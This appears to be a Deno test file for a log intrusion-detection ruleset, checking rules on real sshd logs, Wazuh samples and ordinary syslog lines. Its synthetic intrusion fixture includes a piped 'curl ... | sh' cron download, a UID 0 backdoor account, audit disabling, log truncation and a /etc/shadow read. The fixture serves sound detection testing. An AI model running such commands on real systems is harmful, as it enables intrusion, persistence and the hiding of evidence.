/** Logs that others recorded, and a day's ordinary lines, through the decoders and every shipped rule: what fires on what is known. */

import { deepStrictEqual } from "node:assert/strict";
import { needing } from "../recorded.ts";
import { dataLines, fireLines } from "./shipped_lines.ts";

Deno.test({
  ...needing("logs", "2,000 lines of a real sshd: who had more than five failures, and who tried many names"),
  async fn() {
    const fired = await fireLines(dataLines("logs/OpenSSH_2k.log"));
    // 60.2.12.12 and 52.80.34.196 had five failures and not six; the one login that succeeds comes from an address without failures.
    deepStrictEqual(fired.map(({ rule, group, line }) => `${line} ${rule} ${group}`), SSH_FIRINGS);
  },
});

/** Lines, as another program counts them: more than five failures in 300 s, eight names in 600 s, repeated messages counted. */
const SSH_FIRINGS = [
  "30 ssh-brute-force 5.36.59.76",
  "53 ssh-brute-force 112.95.230.3",
  "134 ssh-brute-force 123.235.32.19",
  "216 ssh-brute-force 5.188.10.180",
  "285 ssh-brute-force 106.5.5.195",
  "323 ssh-brute-force 185.190.58.151",
  "374 ssh-brute-force 103.99.0.122",
  "398 one-address-many-users 103.99.0.122",
  "545 ssh-brute-force 187.141.143.180",
  "765 one-address-many-users 187.141.143.180",
  "1000 ssh-brute-force 119.4.203.64",
  "1042 ssh-brute-force 183.62.140.253",
  "1164 one-address-many-users 183.62.140.253",
  "1889 ssh-brute-force 103.99.0.122",
  "1934 one-address-many-users 103.99.0.122",
];

/** A sample of the other ruleset: its alert's number and level, what it says, and our rules that fire, or why none does. */
type Sample = readonly [sample: string, rules: string, why: string];

const SINGLE = "an error by itself; error-burst tells of fifty in a minute";
const ATTEMPT = "one attempt by itself; rules count them";

/**
 * Samples that the other ruleset gives a level of 5 or more, which is where it begins to call for a look, and those of `su`. None of
 * them is an attack by itself but those that fire.
 */
const SAMPLES: readonly Sample[] = [
  ["apache 30106 5", "", "a folder's listing refused: nothing came of it"],
  ["apache 30107 6", "", "a request that is malformed, of a worm of 2001; 400 by now"],
  ["apache 30305 5", "", "a file refused: nothing came of it"],
  ["apache 30318 5", "", SINGLE],
  ["nginx 31303 5", "", SINGLE],
  ["nginx 31315 5", "", "the sample is not what nginx writes (no user, no client), so it is a web.error"],
  ["nginx 31315 5", "", "the sample is not what nginx writes (no user, no client), so it is a web.error"],
  ["nginx 31320 10", "", "a name that is too long: nothing came of it"],
  ["pam 5503 5", "", ATTEMPT],
  ["pam 5504 5", "", ATTEMPT],
  ["pam 2502 10", "", "what PAM says of attempts that sshd tells of: counted there"],
  ["su 5302 9", "", ATTEMPT],
  ["su 5301 5", "", ATTEMPT],
  ["su 5503 5", "", ATTEMPT],
  ["su 5503 5", "", ATTEMPT],
  ["su 5305 4", "su-to-root", ""],
];

Deno.test({
  ...needing("wazuh", "samples of another ruleset: each that it calls for a look at fires, or it is said why not"),
  async fn() {
    const found: Sample[] = [];
    for (const file of ["apache", "nginx", "pam", "su", "syslog"]) {
      for (const { line, rule, level } of samplesOf(dataLines(`wazuh/${file}.ini`))) {
        const fired = (await fireLines([line])).map((one) => one.rule).join(" ");
        const why = SAMPLES[found.length]?.[2] ?? "";
        if (level >= 5 || fired !== "" || file === "su") found.push([`${file} ${rule} ${level}`, fired, why]);
      }
    }
    deepStrictEqual(found, SAMPLES);
  },
});

/** The samples of a file: sections of `log N pass = LINE`, and the number and the level of the rule that they meet. */
function samplesOf(lines: readonly string[]): { line: string; rule: string; level: number }[] {
  const samples: { line: string; rule: string; level: number }[] = [];
  let open: string[] = [];
  let rule = "";
  for (const text of lines) {
    const [, name = "", value = ""] = /^(log \d+ \w+|rule|alert) = (.*)$/.exec(text) ?? [];
    if (name.startsWith("log ")) open.push(value);
    else if (name === "rule") rule = value;
    else if (name === "alert") {
      for (const line of open) samples.push({ line, rule, level: Number(value) });
      open = [];
    }
  }
  return samples;
}

Deno.test({
  ...needing("audit", "audit logs of six systems at their work: no rule fires"),
  async fn() {
    const logs = ["normal", "rollover"].map((name) => `audit/${name}.log`);
    const names = ["audit-rhel6", "audit-ubuntu14", "audit-ubuntu16", "audit-ubuntu17", "test2"];
    for (const path of [...logs, ...names.map((name) => `audit/auparse/testdata/${name}.log`)]) {
      deepStrictEqual([path, await fireLines(dataLines(path))], [path, []]);
    }
  },
});

/** What a host's own log has on a day when nothing happens, slips of the fingers included. */
const ORDINARY_DAY = `
Nov 21 00:00:01 web-1 CRON[811]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)
Nov 21 00:00:01 web-1 CRON[812]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
Nov 21 00:00:02 web-1 systemd[1]: logrotate.service: Deactivated successfully.
Nov 21 00:00:02 web-1 systemd[1]: Finished logrotate.service - Rotate log files.
Nov 21 00:00:03 web-1 rsyslogd: [origin software="rsyslogd" swVersion="8.2302.0"] rsyslogd was HUPed
Nov 21 00:05:01 web-1 kernel: [12345.678901] usb 1-1: new high-speed USB device number 4 using xhci_hcd
Nov 21 00:05:02 web-1 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:00:00:01 SRC=198.51.100.7 DST=192.0.2.10 LEN=40 TTL=240 PROTO=TCP SPT=44444 DPT=23 SYN
Nov 21 03:10:00 web-1 systemd[1]: Starting apt-daily-upgrade.service - Daily apt upgrade and clean activities...
Nov 21 03:10:09 web-1 systemd[1]: Reloading.
Nov 21 03:10:10 web-1 systemd[1]: Stopped ssh.service - OpenBSD Secure Shell server.
Nov 21 03:10:10 web-1 systemd[1]: Started ssh.service - OpenBSD Secure Shell server.
Nov 21 06:25:01 web-1 dbus-daemon[500]: [system] Failed to activate service 'org.bluez': timed out (service_start_timeout=25000ms)
Nov 21 06:30:00 web-1 NetworkManager[700]: <info>  [1763706600.0] dhcp4 (eth0): state changed new lease, address=192.0.2.10
Nov 21 08:00:00 web-1 sshd[900]: Accepted publickey for alice from 192.0.2.7 port 50001 ssh2: ED25519 SHA256:abc
Nov 21 08:00:00 web-1 sshd[900]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)
Nov 21 08:00:00 web-1 systemd-logind[600]: New session 4 of user alice.
Nov 21 08:01:10 web-1 sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice
Nov 21 08:01:20 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx
Nov 21 08:01:21 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/tail -f /var/log/nginx/error.log
Nov 21 08:01:22 web-1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/find /var/log -name *.gz -mtime +90 -delete
Nov 21 08:10:00 web-1 sshd[950]: Failed password for bob from 192.0.2.8 port 50002 ssh2
Nov 21 08:10:05 web-1 sshd[950]: Failed password for bob from 192.0.2.8 port 50002 ssh2
Nov 21 08:10:10 web-1 sshd[950]: Accepted password for bob from 192.0.2.8 port 50002 ssh2
Nov 21 09:00:00 web-1 sshd[960]: Connection closed by 192.0.2.9 port 40000 [preauth]
Nov 21 09:00:01 web-1 sshd[961]: Did not receive identification string from 198.51.100.8 port 40001
Nov 21 09:30:00 web-1 postfix/smtpd[1000]: warning: unknown[198.51.100.9]: SASL LOGIN authentication failed: authentication failure
Nov 21 10:00:00 web-1 su[1100]: (to postgres) root on none
Nov 21 10:30:00 web-1 passwd[1150]: pam_unix(passwd:chauthtok): password changed for alice
Nov 21 11:00:00 web-1 app[1200]: 12 requests, 0 errors, 3 retries
Nov 21 11:00:01 web-1 app[1200]: error: cannot open \${HOME}/settings.json: using defaults
Nov 21 12:00:00 web-1 kernel: [22345.678901] docker0: port 1(veth1a2b3c4) entered blocking state
Nov 21 12:00:00 web-1 kernel: [22345.678902] device veth1a2b3c4 entered promiscuous mode
Nov 21 13:00:00 web-1 crontab[1300]: (alice) LIST (alice)
Nov 21 17:00:00 web-1 kernel: [32345.678901] app[1400]: segfault at 0 ip 000055d000001000 sp 00007ffd00001000 error 4 in app[55d000000000+2000]
Nov 21 17:00:01 web-1 systemd[1]: app.service: Main process exited, code=killed, status=11/SEGV
Nov 21 17:00:01 web-1 systemd[1]: app.service: Failed with result 'signal'.
Nov 21 17:00:02 web-1 systemd[1]: app.service: Scheduled restart job, restart counter is at 1.
Nov 21 18:00:00 web-1 sshd[900]: pam_unix(sshd:session): session closed for user alice
`.trim().split("\n");

Deno.test("a day's ordinary lines: no rule fires", async () => {
  deepStrictEqual((await fireLines(ORDINARY_DAY)).map(({ rule, line }) => [rule, ORDINARY_DAY[line - 1]]), []);
});

/** How somebody gets in and stays, as the log tells it. */
const INTRUSION = `
Nov 21 02:00:00 web-1 sshd[900]: Failed password for root from 203.0.113.9 port 41000 ssh2
Nov 21 02:00:05 web-1 sshd[900]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 41000 ssh2]
Nov 21 02:00:20 web-1 sshd[901]: Accepted password for root from 203.0.113.9 port 41001 ssh2
Nov 21 02:01:00 web-1 useradd[910]: new group: name=sysd, GID=1005
Nov 21 02:01:00 web-1 useradd[910]: new user: name=sysd, UID=0, GID=1005, home=/home/sysd, shell=/bin/bash, from=/dev/pts/0
Nov 21 02:01:30 web-1 usermod[911]: add 'sysd' to group 'sudo'
Nov 21 02:02:00 web-1 crontab[920]: (root) REPLACE (root)
Nov 21 02:03:00 web-1 CRON[930]: (root) CMD (curl -fsSL http://203.0.113.9/u | sh)
Nov 21 02:04:00 web-1 sudo:     sysd : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/auditctl -e 0
Nov 21 02:05:00 web-1 sudo:     sysd : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log
Nov 21 02:06:00 web-1 sudo:      eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/cat /etc/shadow
Nov 21 02:07:00 web-1 su[940]: FAILED SU (to root) www-data on pts/2
Nov 21 02:07:05 web-1 su[941]: FAILED SU (to root) www-data on pts/2
Nov 21 02:07:10 web-1 su[942]: FAILED SU (to root) www-data on pts/2
Nov 21 02:08:00 web-1 sudo:      eve : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/bash
Nov 21 02:09:00 web-1 su[943]: (to root) eve on pts/1
type=CONFIG_CHANGE msg=audit(1795228200.100:700): op=set audit_enabled=0 old=1 auid=0 ses=3 res=1
`.trim().split("\n");

Deno.test("an intrusion as the logs tell it: each step is told by its rule", async () => {
  deepStrictEqual((await fireLines(INTRUSION)).map(({ rule, line }) => `${line} ${rule}`).sort(byLine), [
    "2 ssh-brute-force",
    "3 root-login-with-password",
    "3 ssh-brute-force-then-login",
    "4 group-created",
    "5 account-created",
    "5 second-root-account",
    "6 user-added-to-admin-group",
    "7 scheduled-task-changed",
    "8 download-and-run",
    "9 audit-disabled",
    "10 log-clearing-command",
    "11 sudo-not-allowed",
    "14 su-failures",
    "15 sudo-failures",
    "16 su-to-root",
    "17 audit-disabled",
  ]);
});

function byLine(a: string, b: string): number {
  return Number.parseInt(a) - Number.parseInt(b) || (a < b ? -1 : 1);
}
